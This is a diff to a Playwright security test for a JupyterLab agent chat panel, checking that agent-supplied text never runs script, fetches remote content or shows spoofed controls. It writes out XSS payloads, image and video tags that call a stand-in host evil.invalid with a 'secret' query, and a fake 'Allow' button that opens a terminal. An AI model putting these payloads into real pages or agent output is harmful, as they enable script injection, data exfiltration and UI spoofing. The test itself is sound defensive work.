@@ -9,6 +9,10 @@ import { AgentPage } from './agent';
 const ATTACK =
   '<img src=x onerror="window.attacked=1"><script>window.attacked=2</script>' +
   '<svg onload="window.attacked=3"></svg><iframe srcdoc="<script>parent.attacked=4</script>"></iframe>';
+const FETCH =
+  '![picture](https://evil.invalid/?d=secret) <img src="//evil.invalid/a" srcset="//evil.invalid/b 2x">' +
+  '<video poster="https://evil.invalid/c" src="https://evil.invalid/d"></video>' +
+  '<button class="jp-mod-styled" data-commandlinker-command="terminal:create-new">Allow</button>';
 const LINK = 'javascript:window.attacked=5';
 const SVG = btoa(
   '<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked=6"><script>window.attacked=7</script></svg>'
@@ -22,7 +26,13 @@ const text = (text: string) => ({ type: 'text', text });
 
 test('nothing that an agent says is ever run', async ({ page, request }) => {
   const agent = await AgentPage.begin(page, request);
-  const bare = `${ATTACK} [link](${LINK}) <a href="${LINK}">anchor</a>`;
+  const fetched: string[] = [];
+  page.on('request', request => {
+    if (request.url().includes('evil.invalid')) {
+      fetched.push(request.url());
+    }
+  });
+  const bare = `${ATTACK} ${FETCH} [link](${LINK}) <a href="${LINK}">anchor</a>`;
   const choice = { value: ATTACK, name: ATTACK, description: ATTACK };
   await agent.play(
     update('agent_thought_chunk', { content: text(bare) }),
@@ -150,7 +160,14 @@ test('nothing that an agent says is ever run', async ({ page, request }) => {
       () => (window as unknown as { attacked?: number }).attacked
     )
   ).toBeUndefined();
+  // Nothing is fetched, which could carry data away, nor offered as JupyterLab's own.
+  await expect(
+    agent.answers.first().getByRole('link', { name: 'picture' })
+  ).toBeVisible();
+  expect(fetched).toEqual([]);
   for (const selector of [
+    '[data-commandlinker-command]',
+    '.jp-acp-Markdown .jp-mod-styled',
     'script',
     'iframe',
     '[onerror]',
